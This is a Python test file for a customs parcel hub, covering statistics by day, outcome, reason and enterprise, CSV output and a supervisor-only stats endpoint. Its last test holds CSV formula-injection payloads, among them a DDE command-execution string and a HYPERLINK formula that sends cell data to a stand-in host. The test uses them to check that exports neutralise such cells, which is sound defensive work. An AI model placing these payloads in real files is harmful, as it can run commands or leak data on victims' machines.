"""Statistics by day, customs mode, outcome, reason and enterprise; JSON and CSV."""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from decimal import Decimal

import pytest
from sqlalchemy.engine import Engine
from sqlmodel import Session

from hub.db.auth_models import Role
from hub.ingest.events import ingest
from hub.services.errors import Invalid
from hub.services.stats import parcel_stats, to_csv
from simulators.sample_declarations import ParcelSet
from tests.hub.helpers_events import (
    Hub,
    engine,
    file_declarations,
    hub,
    parcel_story,
    story_for,
)

__all__ = ["engine", "hub"]  # fixtures used below

DAY = date(2026, 11, 22)


def _fill(eng: Engine) -> list[ParcelSet]:
    """Three declared parcels on 22 Nov (two released, one held), one on 23 Nov, one undeclared."""
    sets = file_declarations(eng, 4)
    ingest(eng, story_for(sets[0], 1))
    ingest(eng, story_for(sets[1], 2, start_s=5))
    ingest(
        eng,
        story_for(
            sets[2],
            3,
            start_s=9,
            outcome="INSPECT",
            reasons=("WEIGHT_DEVIATION", "RANDOM_SELECTION"),
        ),
    )
    ingest(eng, story_for(sets[3], 4, start_s=86400))
    ingest(
        eng,
        parcel_story(5, "RR000000004CN", start_s=20, outcome="HOLD", reasons=("NOT_DECLARED",)),
    )
    return sets


def test_counts_by_day_and_outcome(engine: Engine) -> None:
    """Counts and declared values per (day, outcome), currency kept apart."""
    sets = _fill(engine)
    with Session(engine) as session:
        report = parcel_stats(session, DAY, date(2026, 11, 23), ["outcome", "day"])
    assert report.group_by == ["day", "outcome"]
    assert report.total_parcels == 5
    got = {(tuple(r.keys.values()), r.currency): (r.parcels, r.declared_value) for r in report.rows}
    assert got == {
        (("2026-11-22", "HOLD"), ""): (1, Decimal(0)),
        (("2026-11-22", "INSPECT"), "142"): (1, _inventory_value(sets, 2)),
        (("2026-11-22", "RELEASE"), "142"): (2, _inventory_value(sets, 0, 1)),
        (("2026-11-23", "RELEASE"), "142"): (1, _inventory_value(sets, 3)),
    }


def _inventory_value(sets: list[ParcelSet], *idx: int) -> Decimal:
    """Declared value of inventories: goods value, else the sum of their goods lines."""
    total = Decimal(0)
    for i in idx:
        inv = sets[i].inventory
        if inv.goods_value is not None:
            total += inv.goods_value
        else:
            total += sum((ln.total_price or Decimal(0) for ln in inv.lines), Decimal(0))
    return total


def test_counts_by_reason_mode_and_enterprise(engine: Engine) -> None:
    """A parcel counts once per reason; modes and enterprises come from the declaration."""
    sets = _fill(engine)
    with Session(engine) as session:
        by_reason = parcel_stats(session, DAY, DAY, ["reason"])
        by_mode = parcel_stats(session, DAY, DAY, ["trade_mode", "ebc_code"])
    reasons = {r.keys["reason"]: r.parcels for r in by_reason.rows}
    assert reasons == {"": 2, "NOT_DECLARED": 1, "RANDOM_SELECTION": 1, "WEIGHT_DEVIATION": 1}
    modes: dict[tuple[str, str], int] = {}
    for r in by_mode.rows:
        key = (r.keys["trade_mode"], r.keys["ebc_code"])
        modes[key] = modes.get(key, 0) + r.parcels
    expected: dict[tuple[str, str], int] = {("", ""): 1}
    for ps in sets[:3]:
        key = (ps.inventory.trade_mode, ps.inventory.ebc_code)
        expected[key] = expected.get(key, 0) + 1
    assert modes == expected


def test_bad_grouping_and_period_are_refused(engine: Engine) -> None:
    """Unknown group keys and reversed periods get a clear error."""
    with Session(engine) as session:
        with pytest.raises(Invalid, match="cannot group by"):
            parcel_stats(session, DAY, DAY, ["colour"])
        with pytest.raises(Invalid, match="before date_from"):
            parcel_stats(session, DAY, date(2026, 11, 1))


def test_csv_rendering() -> None:
    """CSV has the group keys, currency, parcels and the declared value."""
    from hub.services.stats import StatsReport, StatsRow

    report = StatsReport(
        date_from=DAY,
        date_to=DAY,
        group_by=["day", "outcome"],
        total_parcels=3,
        rows=[
            StatsRow(
                keys={"day": "2026-11-22", "outcome": "RELEASE"},
                currency="142",
                parcels=3,
                declared_value=Decimal("12.50000"),
            )
        ],
    )
    assert to_csv(report) == (
        "day,outcome,currency,parcels,declared_value\n2026-11-22,RELEASE,142,3,12.50000\n"
    )


def test_stats_api_json_and_csv(hub: Hub) -> None:
    """The endpoint answers JSON by default and CSV with format=csv; supervisors only."""
    _fill(hub.engine)
    params = {"date_from": "2026-11-22", "date_to": "2026-11-23", "group_by": ["outcome"]}
    auth = hub.auth(Role.SUPERVISOR)
    resp = hub.client.get("/api/v1/stats", params=params, headers=auth)
    assert resp.status_code == 200, resp.text
    body = resp.json()
    assert body["total_parcels"] == 5
    assert sum(r["parcels"] for r in body["rows"]) == 5
    csv_resp = hub.client.get("/api/v1/stats", params={**params, "format": "csv"}, headers=auth)
    assert csv_resp.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(csv_resp.text)))
    assert {r["outcome"] for r in rows} == {"RELEASE", "INSPECT", "HOLD"}
    assert sum(int(r["parcels"]) for r in rows) == 5
    bad = hub.client.get("/api/v1/stats", params={"group_by": "colour"}, headers=auth)
    assert bad.status_code == 422
    assert "cannot group by" in json.dumps(bad.json())
    denied = hub.client.get("/api/v1/stats", headers=hub.auth(Role.OPERATOR))
    assert denied.status_code == 403


@pytest.mark.parametrize(
    "filed",
    [
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://x.example/?q="&A1,"click")',
        "+1+2",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "＝1+1",
    ],
)
def test_csv_cells_from_filed_codes_never_become_formulas(filed: str) -> None:
    """A code or edge id filed by someone else comes out as text, with a leading apostrophe."""
    from hub.services.stats import StatsReport, StatsRow

    report = StatsReport(
        date_from=DAY,
        date_to=DAY,
        group_by=["ebc_code", "edge"],
        total_parcels=1,
        rows=[
            StatsRow(
                keys={"ebc_code": filed, "edge": filed},
                currency=filed,
                parcels=1,
                declared_value=Decimal("-1.5"),
            )
        ],
    )
    (row,) = list(csv.DictReader(io.StringIO(to_csv(report))))
    for name in ("ebc_code", "edge", "currency"):
        assert row[name] == "'" + filed
    assert row["declared_value"] == "-1.5"  # numbers stay numbers
